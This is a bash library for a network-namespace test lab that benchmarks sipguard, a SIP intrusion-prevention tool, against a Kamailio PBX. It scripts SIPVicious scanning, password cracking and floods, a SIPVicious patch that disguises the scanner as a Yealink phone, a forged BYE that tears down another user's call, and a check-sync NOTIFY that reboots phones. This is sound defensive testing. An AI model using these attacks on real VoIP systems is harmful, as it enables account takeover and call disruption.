# SPDX-License-Identifier: GPL-2.0-or-later
# Shared functions of the sipguard lab (sourced by tools/lab/lab, tests/e2e and
# tools/bench/vs-fail2ban). Everything runs inside network namespaces this file
# creates with per-run names; nothing touches the host namespace's addresses,
# routes or ruleset. Every process started is recorded by PID and stopped by
# PID at teardown; every traffic generator is bounded in count and in time.
#
# Topology (one Linux bridge in its own namespace, veth peers into the others):
#   pbx      10.77.0.10/16  fd00:77::10/32       Kamailio (+ sipguard) + voicemail UAS
#   legit    10.77.2.20/16  fd00:77:2::20/32     sipp phones (users 100-109)
#   attacker 10.77.<10+k>.66/16, fd00:77:<10+k>::66/32 for attack k = 1..20
#            (one /24 per attack, so prefix aggregation of one attack never
#            pre-bans the next one)
#   legit also holds the office NAT 10.77.3.30 and the trunk 10.77.4.40, attacker
#   also the distributed guessers 10.77.<100+i>.66 (i = 1..20, one /24 each) and
#   fd00:77:99::<i>/64 (i = 1..60, one /64); see tools/lab/accounts.sh

LAB_DIR=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
LAB_ROOT=$(cd "$LAB_DIR/../.." && pwd)

PBX_IP=10.77.0.10
PBX_IP6=fd00:77::10
LEGIT_IP=10.77.2.20
LEGIT_IP6=fd00:77:2::20
VM_PORT=5080
GW_PORT=5090
OFFICE_IP=10.77.3.30
TRUNK_IP=10.77.4.40
LAB_UA_PATCHED='Yealink SIP-T46S 66.86.0.15'
LAB_WEAK_USER=105

lab_log() { printf '[lab %s] %s\n' "$(date -u +%H:%M:%S)" "$*" >&2; }
lab_die() { lab_log "error: $*"; exit 1; }

atk_ip() { echo "10.77.$((10 + $1)).66"; }
atk_ip6() { echo "fd00:77:$((10 + $1))::66"; }
# The distributed guessers: address i of 20 in /24s of their own, address i of 60 in one /64.
guess_ip() { echo "10.77.$((100 + $1)).66"; }
guess_ip6() { echo "fd00:77:99::$1"; }
# atk_addr NAME K: the source address attack NAME uses (IPv6 for the *6 floods).
atk_addr() { if [ "${1%6}" != "$1" ]; then atk_ip6 "$2"; else atk_ip "$2"; fi; }

# lab_require_peers: exit 77 (skip) when not root or a peer tool is missing.
lab_require_peers() {
	if [ "$(id -u)" -ne 0 ]; then
		echo "SKIP: the lab needs root (network namespaces)" >&2
		exit 77
	fi
	local t missing=()
	for t in ip ss kamailio sipp svmap svwar svcrack tshark python3 timeout stdbuf; do
		command -v "$t" >/dev/null 2>&1 || missing+=("$t")
	done
	if [ ${#missing[@]} -gt 0 ]; then
		echo "SKIP: missing lab peers: ${missing[*]} (run tools/setup)" >&2
		exit 77
	fi
}

lab_init() {
	LAB_ID=${LAB_ID:-$$}
	NS_BR=sglab-br-$LAB_ID
	NS_PBX=sglab-pbx-$LAB_ID
	NS_ATK=sglab-atk-$LAB_ID
	NS_LEG=sglab-leg-$LAB_ID
	LAB_TMP=$(mktemp -d /tmp/sglab.XXXXXX)
	chmod 755 "$LAB_TMP"
	LAB_PIDS=()
	LAB_NETNS=()
	trap lab_teardown EXIT
	trap 'lab_log "interrupted"; exit 130' INT TERM
}

lab_track() { LAB_PIDS+=("$1"); }

# lab_stop PID: TERM, wait up to 3 s, then KILL; only PIDs we started.
lab_stop() {
	local pid=$1 i
	kill -0 "$pid" 2>/dev/null || return 0
	kill -TERM "$pid" 2>/dev/null || true
	for i in $(seq 30); do
		kill -0 "$pid" 2>/dev/null || break
		sleep 0.1
	done
	kill -KILL "$pid" 2>/dev/null || true
	wait "$pid" 2>/dev/null || true
}

lab_teardown() {
	local rc=$?
	trap - EXIT INT TERM
	local i
	for ((i = ${#LAB_PIDS[@]} - 1; i >= 0; i--)); do
		lab_stop "${LAB_PIDS[$i]}"
	done
	for ns in "${LAB_NETNS[@]}"; do
		ip netns del "$ns" 2>/dev/null || true
	done
	if [ -n "${LAB_KEEP_TMP:-}" ]; then
		lab_log "kept $LAB_TMP"
	else
		rm -rf "$LAB_TMP"
	fi
	exit "$rc"
}

lab_ns_add() {
	ip netns add "$1" || lab_die "cannot create namespace $1"
	LAB_NETNS+=("$1")
	ip -n "$1" link set lo up
}

# lab_net_up: namespaces, bridge, veths, addresses.
lab_net_up() {
	lab_ns_add "$NS_BR"
	lab_ns_add "$NS_PBX"
	lab_ns_add "$NS_ATK"
	lab_ns_add "$NS_LEG"
	ip -n "$NS_BR" link add br0 type bridge
	ip -n "$NS_BR" link set br0 up
	local pair ns port
	for pair in pbx:"$NS_PBX" atk:"$NS_ATK" leg:"$NS_LEG"; do
		port=v-${pair%%:*}
		ns=${pair#*:}
		ip -n "$NS_BR" link add "$port" type veth peer name eth0 netns "$ns"
		ip -n "$NS_BR" link set "$port" master br0 up
		ip -n "$ns" link set eth0 up
	done
	ip -n "$NS_PBX" addr add "$PBX_IP/16" dev eth0
	ip -n "$NS_PBX" addr add "$PBX_IP6/32" dev eth0 nodad
	ip -n "$NS_LEG" addr add "$LEGIT_IP/16" dev eth0
	ip -n "$NS_LEG" addr add "$LEGIT_IP6/32" dev eth0 nodad
	local k
	ip -n "$NS_LEG" addr add "$OFFICE_IP/16" dev eth0
	ip -n "$NS_LEG" addr add "$TRUNK_IP/16" dev eth0
	{
		for k in $(seq 1 20); do
			echo "addr add $(atk_ip "$k")/16 dev eth0"
			echo "addr add $(atk_ip6 "$k")/32 dev eth0 nodad"
			echo "addr add $(guess_ip "$k")/16 dev eth0"
		done
		for k in $(seq 1 60); do
			echo "addr add $(guess_ip6 "$k")/32 dev eth0 nodad"
		done
	} | ip -n "$NS_ATK" -batch - || lab_die "cannot add the attacker addresses"
}

# lab_wait_udp NS PORT ADDR [t]: until something listens there (10 s); t: on TCP.
lab_wait_udp() {
	local i
	for i in $(seq 100); do
		ip netns exec "$1" ss "-Hl${4:-u}n" "src $3:$2" 2>/dev/null | grep -q . && return 0
		sleep 0.1
	done
	return 1
}

lab_kamailio_start() {
	local pw
	pw=$(tail -q -n +2 "$LAB_DIR/users.csv" "$LAB_DIR/trunk.csv" | awk -F';' '{printf "\t$sht(pw=>%s) = \"%s\";\n", $1, $2}')
	mkdir -p "$LAB_TMP/kam"
	python3 - "$LAB_DIR/kamailio.cfg" "$LAB_TMP/kamailio.cfg" "$pw" <<-EOF
		import sys
		s = open(sys.argv[1]).read()
		for k, v in (("@PBX_IP@", "$PBX_IP"), ("@PBX_IP6@", "$PBX_IP6"), ("@VM_PORT@", "$VM_PORT"), ("@GW_PORT@", "$GW_PORT"), ("@GW_ADDR@", "${LAB_GW_ADDR:-$PBX_IP:$GW_PORT}"), ("@PASSWORDS@", sys.argv[3])):
		    s = s.replace(k, v)
		open(sys.argv[2], "w").write(s)
	EOF
	KAM_LOG=$LAB_TMP/kamailio.log
	# LAB_KAM_TCP=1 adds Kamailio's TCP listeners (the evasion scenario).
	local defs=()
	[ "${LAB_KAM_TCP:-0}" = 1 ] && defs=(-A WITH_TCP)
	ip netns exec "$NS_PBX" kamailio -f "$LAB_TMP/kamailio.cfg" "${defs[@]}" -DD -E -m 64 -M 8 \
		-Y "$LAB_TMP/kam" -P "$LAB_TMP/kam/kamailio.pid" -w "$LAB_TMP/kam" >"$KAM_LOG" 2>&1 &
	KAM_PID=$!
	lab_track "$KAM_PID"
	lab_wait_udp "$NS_PBX" 5060 "$PBX_IP" || { tail -20 "$KAM_LOG" >&2; lab_die "kamailio did not start"; }
	lab_log "kamailio up on $PBX_IP:5060 (pid $KAM_PID, log $KAM_LOG)"
}

# The voicemail: sipp UAS on the PBX host, echoing RTP back to the caller.
lab_voicemail_start() {
	ip netns exec "$NS_PBX" timeout "${LAB_VM_SECONDS:-900}" sipp -sf "$LAB_DIR/scenarios/voicemail-uas.xml" \
		-i "$PBX_IP" -p "$VM_PORT" -mi "$PBX_IP" -mp 20000 -rtp_echo -nostdin \
		-trace_err -error_file "$LAB_TMP/vm-errors.log" -trace_msg -message_file "$LAB_TMP/vm-msg.log" \
		>"$LAB_TMP/vm.out" 2>&1 &
	lab_track $!
	lab_wait_udp "$NS_PBX" "$VM_PORT" "$PBX_IP" || lab_die "voicemail UAS did not start"
}

# lab_capture_start NAME FILTER [NS]: tshark on eth0 of the pbx namespace
# (an AF_PACKET tap: sees packets before netfilter, so dropped attack packets
# are in the capture too). Sets CAP_PID_<NAME>.
lab_capture_start() {
	local name=$1 filter=$2 ns=${3:-$NS_PBX} out=$LAB_TMP/$1.pcap
	ip netns exec "$ns" tshark -q -n -i eth0 -F pcap -f "$filter" -w "$out" -a "duration:${LAB_CAPTURE_SECONDS:-300}" \
		>"$LAB_TMP/$name.tshark.log" 2>&1 &
	local pid=$!
	lab_track "$pid"
	printf -v "CAP_PID_${name//-/_}" '%s' "$pid"
	local i
	for i in $(seq 100); do
		grep -q "Capturing on" "$LAB_TMP/$name.tshark.log" 2>/dev/null && { sleep 0.2; return 0; }
		sleep 0.1
	done
	lab_die "tshark did not start: $(cat "$LAB_TMP/$name.tshark.log")"
}

lab_capture_stop() {
	local name=$1 v="CAP_PID_${1//-/_}"
	local pid=${!v}
	sleep 0.5
	kill -INT "$pid" 2>/dev/null || true
	wait "$pid" 2>/dev/null || true
}

# Patched sipvicious: a private copy whose default User-Agent is a phone's and
# whose svcrack From tag on the first REGISTER (fixed "3206210844" upstream) is random.
lab_sipvicious_patched() {
	SV_PATCHED=$LAB_TMP/sv-patched
	[ -d "$SV_PATCHED/sipvicious" ] && return 0
	mkdir -p "$SV_PATCHED"
	cp -r /usr/share/sipvicious/sipvicious "$SV_PATCHED/"
	sed -i "s/useragent='friendly-scanner'/useragent='$LAB_UA_PATCHED'/" "$SV_PATCHED/sipvicious/libs/svhelper.py"
	sed -i "s/localtag = '3206210844'.encode()/localtag = ('%08x' % random.getrandbits(32)).encode()/" \
		"$SV_PATCHED/sipvicious/svcrack.py"
	grep -q "$LAB_UA_PATCHED" "$SV_PATCHED/sipvicious/libs/svhelper.py" || lab_die "UA patch did not apply"
	grep -q "3206210844" "$SV_PATCHED/sipvicious/svcrack.py" && lab_die "svcrack tag patch did not apply"
	return 0
}

# Attacks. lab_attack NAME K: run attack NAME from attacker address k in the
# attacker namespace, in the foreground, output in $LAB_TMP/attack-NAME.log.
# Names: svmap svmap-ua svwar-register svwar-invite svcrack and *-ua, flood-invite,
# flood-register (and flood-invite6, flood-register6 over IPv6). Each is bounded
# by its own limits and by `timeout`.
LAB_ATTACKS=(svmap svwar-register svwar-invite svcrack svmap-ua svwar-register-ua svwar-invite-ua svcrack-ua flood-invite flood-register flood-register6)

lab_attack() {
	local name=$1 k=$2 ip patched=0 base
	ip=$(atk_ip "$k")
	base=${name%-ua}
	[ "$base" != "$name" ] && patched=1
	local log=$LAB_TMP/attack-$name.log
	local sv_env=(env)
	if [ "$patched" = 1 ]; then
		lab_sipvicious_patched
		sv_env=(env SV_PATCHED="$SV_PATCHED")
	fi
	local sv=("${sv_env[@]}" "$LAB_DIR/sv")
	# svwar and svcrack 0.3.3 ignore -b (never passed to the socket), so the
	# source address is chosen by a host route to the PBX with this preferred source.
	ip -n "$NS_ATK" route replace "$PBX_IP/32" dev eth0 src "$ip"
	local sv_common=(-b "$ip" -x "$ip" -p 5060)
	case $base in
	svmap)
		local extra=()
		[ "$patched" = 1 ] && extra=(--fromname "Reception")
		ip netns exec "$NS_ATK" timeout 20 "${sv[@]}" svmap "${sv_common[@]}" "${extra[@]}" "$PBX_IP" >"$log" 2>&1 || true
		;;
	svwar-register | svwar-invite)
		local method=REGISTER
		[ "$base" = svwar-invite ] && method=INVITE
		ip netns exec "$NS_ATK" timeout 40 "${sv[@]}" svwar "${sv_common[@]}" -m "$method" -e100-199 \
			--maximumtime 4 "$PBX_IP" >"$log" 2>&1 || true
		;;
	svcrack)
		ip netns exec "$NS_ATK" timeout 40 "${sv[@]}" svcrack "${sv_common[@]}" -u "$LAB_WEAK_USER" \
			-d "$LAB_DIR/svcrack-dict.txt" --maximumtime 4 "$PBX_IP" >"$log" 2>&1 || true
		;;
	flood-invite | flood-register | flood-invite6 | flood-register6)
		# 500 requests per second for 2 s (1000 requests), stops after 6 s at most.
		# The *6 variants run over IPv6 (attacker fd00:77:<10+k>::66 to [fd00:77::10]).
		local src=$ip dst=$PBX_IP:5060
		if [ "${name%6}" != "$name" ]; then
			src=$(atk_ip6 "$k")
			dst="[$PBX_IP6]:5060"
		fi
		ip netns exec "$NS_ATK" timeout 15 sipp -sf "$LAB_DIR/scenarios/${name%6}.xml" -i "$src" -p 5060 \
			-r 500 -rp 1000 -m 1000 -l 2000 -timeout 6s -timeout_error -nostdin -trace_err \
			-error_file "$LAB_TMP/attack-$name-errors.log" "$dst" >"$log" 2>&1 || true
		;;
	*) lab_die "unknown attack $name (known: ${LAB_ATTACKS[*]})" ;;
	esac
	return 0
}

# lab_attack_succeeded NAME: what the attacker learnt, from its own output.
lab_attack_result() {
	local name=$1 log=$LAB_TMP/attack-$1.log
	case ${name%-ua} in
	svmap) if grep -q "$PBX_IP:5060" "$log"; then echo "found PBX"; else echo "nothing found"; fi ;;
	svwar-*) echo "$(grep -cE '^\| *1[0-9][0-9] *\| *reqauth' "$log") ext found" ;;
	svcrack) if grep -qE "^\| *$LAB_WEAK_USER *\| *[^ |]" "$log"; then echo "password found"; else echo "not cracked"; fi ;;
	flood-*) echo "-" ;;
	esac
}

# The summary table's header (rows: lab_summary_row in tools/lab/lab, acct_row).
lab_summary_header() {
	printf '| %-18s | %-14s | %5s | %7s | %5s | %5s | %-11s | %-16s | %-16s |\n' \
		attack source sent "at PBX" users "fails" "ban after" detector "attacker got"
	printf '|%s|%s|%s|%s|%s|%s|%s|%s|%s|\n' "$(printf -- '-%.0s' {1..20})" "$(printf -- '-%.0s' {1..16})" \
		"$(printf -- '-%.0s' {1..7})" "$(printf -- '-%.0s' {1..9})" "$(printf -- '-%.0s' {1..7})" \
		"$(printf -- '-%.0s' {1..7})" "$(printf -- '-%.0s' {1..13})" "$(printf -- '-%.0s' {1..18})" "$(printf -- '-%.0s' {1..18})"
}

# Requests from address IP that reached Kamailio (its own xlog line per request).
lab_pbx_count() { grep -c "SGLAB req .*src=$1 " "$KAM_LOG" || true; }
# Distinct users named by IP's requests at the PBX (To user of REGISTER, R-URI user of INVITE).
lab_pbx_distinct_users() {
	{ grep "SGLAB req .*src=$1 " "$KAM_LOG" || true; } | sed -nE 's/.* m=REGISTER ru=[^ ]* fu=[^ ]* tu=([^ ]*) .*/\1/p; s/.* m=INVITE ru=([^ ]*) .*/\1/p' | sort -u | wc -l
}
lab_pbx_auth_failures() { grep -c "SGLAB auth-failed .*src=$1 " "$KAM_LOG" || true; }
# Epoch of the first / last request from IP that reached Kamailio.
lab_pbx_first_ts() { grep "SGLAB req .*src=$1 " "$KAM_LOG" | sed -nE '1s/.* t=([0-9.]+) .*/\1/p' || true; }
lab_pbx_last_ts() { grep "SGLAB req .*src=$1 " "$KAM_LOG" | tail -1 | sed -nE 's/.* t=([0-9.]+) .*/\1/p' || true; }

lab_ipfield() { case $1 in *:*) echo ipv6 ;; *) echo ip ;; esac; }

# From the wire capture (tshark in the pbx namespace, before netfilter):
# requests IP sent to the PBX, and the epoch of the first one.
lab_wire_sent() {
	tshark -n -r "$1" -Y "$(lab_ipfield "$2").src==$2 && sip.Method" -T fields -e frame.time_epoch 2>/dev/null | wc -l
}
# lab_wire_tsv PCAP: the SIP requests of a capture, one a line (epoch, ip.src,
# ipv6.src, udp.srcport, method), for tally.py; written once next to the capture.
lab_wire_tsv() {
	local tsv=${1%.pcap}.tsv
	[ -s "$tsv" ] || tshark -n -r "$1" -Y "sip.Method" -T fields -e frame.time_epoch -e ip.src -e ipv6.src \
		-e udp.srcport -e sip.Method >"$tsv" 2>/dev/null || true
	echo "$tsv"
}
lab_wire_first_ts() {
	tshark -n -r "$1" -Y "$(lab_ipfield "$2").src==$2 && sip.Method" -T fields -e frame.time_epoch 2>/dev/null | head -1 || true
}

# Legitimate traffic. lab_legit_register: all ten users once; prints "ok/total".
lab_legit_register() {
	local out=$LAB_TMP/legit-register-$RANDOM
	ip netns exec "$NS_LEG" timeout 30 sipp -sf "$LAB_DIR/scenarios/legit-register.xml" -inf "$LAB_DIR/users.csv" \
		-i "$LEGIT_IP" -p 5060 -m 10 -r 10 -timeout 20s -nostdin -trace_stat -stf "$out.csv" -trace_err -error_file "$out.err" -cid_str "reg-%u-%p@%s" \
		"$PBX_IP:5060" >"$out.log" 2>&1
	lab_sipp_result "$out.csv"
}

# lab_legit_calls_start N HOLD_MS: N calls to voicemail, one every 2 s,
# two at a time at most, each HOLD_MS long with RTP. Background; sets LEGIT_CALLS_PID.
lab_legit_calls_start() {
	local n=$1 hold=$2
	LEGIT_CALLS_STAT=$LAB_TMP/legit-calls.csv
	ip netns exec "$NS_LEG" timeout $((n * 2 + hold / 1000 + 30)) sipp -sf "$LAB_DIR/scenarios/legit-call.xml" \
		-inf "$LAB_DIR/users.csv" -i "$LEGIT_IP" -p 5062 -mi "$LEGIT_IP" -mp 30000 \
		-m "$n" -r 1 -rp 2000 -l 3 -d "$hold" -nostdin -trace_stat -stf "$LEGIT_CALLS_STAT" -fd 1 \
		-trace_err -error_file "$LAB_TMP/legit-calls-errors.log" -trace_msg -message_file "$LAB_TMP/legit-calls-msg.log" \
		-cid_str "legit-%u-%p@sglab" "$PBX_IP:5060" >"$LAB_TMP/legit-calls.log" 2>&1 &
	LEGIT_CALLS_PID=$!
	lab_track "$LEGIT_CALLS_PID"
}

# lab_legit_calls_wait: sets LEGIT_CALLS_RESULT ("completed/total"); not in $(...),
# since only this shell can wait for its child.
lab_legit_calls_wait() {
	wait "$LEGIT_CALLS_PID" 2>/dev/null || true
	LEGIT_CALLS_RESULT=$(lab_sipp_result "$LEGIT_CALLS_STAT")
}

# lab_sipp_result STAT.csv: "successful/total" from sipp's last statistics line.
lab_sipp_result() {
	python3 - "$1" <<-'EOF'
		import csv, sys
		try:
		    rows = list(csv.reader(open(sys.argv[1]), delimiter=';'))
		    h, last = rows[0], rows[-1]
		    ok = int(last[h.index('SuccessfulCall(C)')])
		    bad = int(last[h.index('FailedCall(C)')])
		    print(f"{ok}/{ok + bad}")
		except Exception as e:
		    print("0/?")
	EOF
}

# RTP packets between legit and pbx in a capture, per direction.
lab_rtp_counts() {
	local to from
	to=$(tshark -n -r "$1" -Y "ip.src==$LEGIT_IP && udp.dstport>=20000 && udp.dstport<21000" 2>/dev/null | wc -l)
	from=$(tshark -n -r "$1" -Y "ip.dst==$LEGIT_IP && udp.srcport>=20000 && udp.srcport<21000" 2>/dev/null | wc -l)
	echo "$to $from"
}

# lab_pbx_up: network, kamailio, voicemail.
lab_pbx_up() {
	lab_net_up
	lab_kamailio_start
	lab_voicemail_start
}

# ---- sipguard -------------------------------------------------------------
# lab_sipguard_available: the binary exists and has the daemon and control
# commands the lab needs; otherwise sets LAB_SIPGUARD_MISSING to what is missing.
lab_sipguard_available() {
	LAB_SIPGUARD_MISSING=
	if [ -z "${SIPGUARD_BIN:-}" ]; then
		SIPGUARD_BIN=${SIPGUARD:-}
		if [ -z "$SIPGUARD_BIN" ]; then
			SIPGUARD_BIN=$(ls -t "$LAB_ROOT"/build*/agent/cli/sipguard "$LAB_ROOT"/build*/sipguard 2>/dev/null | head -1 || true)
		fi
	fi
	if [ -z "$SIPGUARD_BIN" ] || [ ! -x "$SIPGUARD_BIN" ]; then
		LAB_SIPGUARD_MISSING="no sipguard binary (build it, or set SIPGUARD=path)"
		return 1
	fi
	local c missing=() top
	top=$("$SIPGUARD_BIN" --help 2>&1 || true)
	for c in run bans explain unban; do
		grep -qE "^ +$c( |$)" <<<"$top" || missing+=("'sipguard $c'")
	done
	"$SIPGUARD_BIN" run --help 2>&1 | grep -q -- "--config" || missing+=("'sipguard run --config'")
	"$SIPGUARD_BIN" bans --help 2>&1 | grep -q -- "--follow" || missing+=("'sipguard bans --follow'")
	if [ ${#missing[@]} -gt 0 ]; then
		LAB_SIPGUARD_MISSING="$SIPGUARD_BIN lacks ${missing[*]}"
		return 1
	fi
	return 0
}

# Ban log helpers; without sipguard there are no bans to show.
lab_sipguard_ban_of() {
	[ "${LAB_PROTECTED:-0}" = 1 ] || { echo "- -"; return 0; }
	lab_sipguard_ban_of_impl "$1"
}
lab_sipguard_bans_of() {
	[ "${LAB_PROTECTED:-0}" = 1 ] || { echo "n/a (unprotected)"; return 0; }
	lab_sipguard_bans_of_impl "$1"
}

# Session manipulation from the attacker. lab_forged_call_start: one long
# legitimate call (user 101 to voicemail, HOLD ms) whose dialog the attacker
# then targets; lab_forged_bye K: a BYE for that dialog from attacker address
# k, with the PBX's Record-Route as Route so that an unprotected Kamailio
# relays it to the voicemail and ends the call.
lab_forged_call_start() {
	local hold=${1:-8000}
	FORGED_STAT=$LAB_TMP/forged-call.csv
	FORGED_MSG=$LAB_TMP/forged-call-msg.log
	printf 'SEQUENTIAL\n101;x;[authentication username=101 password=%s]\n' \
		"$(awk -F';' '$1 == "101" {print $2}' "$LAB_DIR/users.csv")" >"$LAB_TMP/forged-user.csv"
	ip netns exec "$NS_LEG" timeout $((hold / 1000 + 20)) sipp -sf "$LAB_DIR/scenarios/legit-call.xml" \
		-inf "$LAB_TMP/forged-user.csv" -i "$LEGIT_IP" -p 5064 -mi "$LEGIT_IP" -mp 31000 \
		-m 1 -d "$hold" -nostdin -trace_stat -stf "$FORGED_STAT" -fd 1 -trace_msg -message_file "$FORGED_MSG" \
		-cid_str "forgetest-%u@sglab" "$PBX_IP:5060" >"$LAB_TMP/forged-call.log" 2>&1 &
	FORGED_PID=$!
	lab_track "$FORGED_PID"
}

lab_forged_call_wait() {
	wait "$FORGED_PID" 2>/dev/null || true
	FORGED_RESULT=$(lab_sipp_result "$FORGED_STAT")
}

lab_forged_bye() {
	local ip totag
	ip=$(atk_ip "$1")
	totag=$(grep -m1 -oE '^To: <sip:200@[^>]*>;tag=vm[0-9]+' "$FORGED_MSG" | sed 's/.*tag=//' || true)
	[ -n "$totag" ] || { lab_log "forged BYE: the call has no answer yet"; return 1; }
	ip netns exec "$NS_ATK" python3 "$LAB_DIR/sipsend.py" --src "$ip" --dst "$PBX_IP" <<-EOF
		BYE sip:200@$PBX_IP:$VM_PORT SIP/2.0
		Via: SIP/2.0/UDP $ip:5060;branch=z9hG4bK-forged$RANDOM;rport
		Route: <sip:$PBX_IP;lr;ftag=uac1>
		Max-Forwards: 70
		From: "Phone 101" <sip:101@$PBX_IP>;tag=uac1
		To: <sip:200@$PBX_IP>;tag=$totag
		Call-ID: forgetest-1@sglab
		CSeq: 10 BYE
		User-Agent: Yealink SIP-T46S 66.86.0.15
		Content-Length: 0
	EOF
}

# lab_check_sync K: NOTIFY Event: check-sync (reboots Yealink phones) from attacker k.
lab_check_sync() {
	local ip
	ip=$(atk_ip "$1")
	ip netns exec "$NS_ATK" python3 "$LAB_DIR/sipsend.py" --src "$ip" --dst "$PBX_IP" <<-EOF
		NOTIFY sip:100@$PBX_IP SIP/2.0
		Via: SIP/2.0/UDP $ip:5060;branch=z9hG4bK-cs$RANDOM;rport
		Max-Forwards: 70
		From: <sip:$ip>;tag=cs$RANDOM
		To: <sip:100@$PBX_IP>
		Call-ID: checksync-$RANDOM@$ip
		CSeq: 1 NOTIFY
		Event: check-sync;reboot=true
		Subscription-State: terminated
		Content-Length: 0
	EOF
}

# lab_sipguard_start: sipguard in the PBX namespace with the default config,
# except the paths (state, ban log, control socket: under this run's temp dir)
# and media pinning on for the voicemail's RTP ports; LAB_SIPGUARD_DAEMON_CONFIG
# (key = value lines) goes into [daemon]. Sets SIPGUARD_PID,
# SIPGUARD_SOCKET, SG_BANLOG.
lab_sipguard_start() {
	SG_BANLOG=$LAB_TMP/sipguard-bans.log
	export SIPGUARD_SOCKET=$LAB_TMP/sipguard.sock
	SG_CONFIG=$LAB_TMP/sipguard.toml
	mkdir -p "$LAB_TMP/sipguard-state"
	cat >"$SG_CONFIG" <<-EOF
		# sipguard lab: the default config, with per-run paths and media pinning
		# for the voicemail's RTP ports (sipp -mp 20000 on the PBX host).
		[daemon]
		state_dir = "$LAB_TMP/sipguard-state"
		ban_log = "$SG_BANLOG"
		control_socket = "$SIPGUARD_SOCKET"
		remove_table_on_exit = true
		${LAB_SIPGUARD_DAEMON_CONFIG:-}

		[media]
		pinning = true
		rtp_range = "20000-20999"

		[metrics]
		socket = "$LAB_TMP/sipguard-metrics.sock"
	EOF
	if [ -n "${LAB_SIPGUARD_EXTRA_CONFIG:-}" ]; then
		printf '%s\n' "$LAB_SIPGUARD_EXTRA_CONFIG" >>"$SG_CONFIG"
	fi
	"$SIPGUARD_BIN" check-config "$SG_CONFIG" >&2 || lab_die "sipguard rejected the lab config $SG_CONFIG"
	ip netns exec "$NS_PBX" "$SIPGUARD_BIN" run --config "$SG_CONFIG" >"$LAB_TMP/sipguard.log" 2>&1 &
	SIPGUARD_PID=$!
	lab_track "$SIPGUARD_PID"
	local i
	for i in $(seq 100); do
		kill -0 "$SIPGUARD_PID" 2>/dev/null || { cat "$LAB_TMP/sipguard.log" >&2; lab_die "sipguard exited at start"; }
		"$SIPGUARD_BIN" status --socket "$SIPGUARD_SOCKET" >/dev/null 2>&1 && {
			lab_log "sipguard up in $NS_PBX (pid $SIPGUARD_PID, ban log $SG_BANLOG)"
			return 0
		}
		sleep 0.1
	done
	cat "$LAB_TMP/sipguard.log" >&2
	lab_die "sipguard's control socket did not answer within 10 s"
}

# The operator's live view: `sipguard bans --follow`, prefixed, to stderr.
lab_sipguard_follow_start() {
	stdbuf -oL "$SIPGUARD_BIN" bans --follow --socket "$SIPGUARD_SOCKET" \
		> >(sed -u 's/^/    [sipguard bans --follow] /' >&2) 2>&1 &
	lab_track $!
}

# "EPOCH DETECTOR" of the first ban covering IP in the ban log, or "- -".
lab_sipguard_ban_of_impl() { python3 "$LAB_DIR/tally.py" --banlog "$SG_BANLOG" --src "$1" --first-ban; }

# Number of ban events naming exactly IP in the ban log.
lab_sipguard_bans_of_impl() {
	python3 - "$SG_BANLOG" "$1" <<-'EOF'
		import sys, json
		n = 0
		try:
		    for l in open(sys.argv[1]):
		        try:
		            e = json.loads(l)
		        except ValueError:
		            continue
		        if e.get("event") in ("ban", "prefix_ban") and e.get("addr") == sys.argv[2]:
		            n += 1
		except OSError:
		    pass
		print(n)
	EOF
}
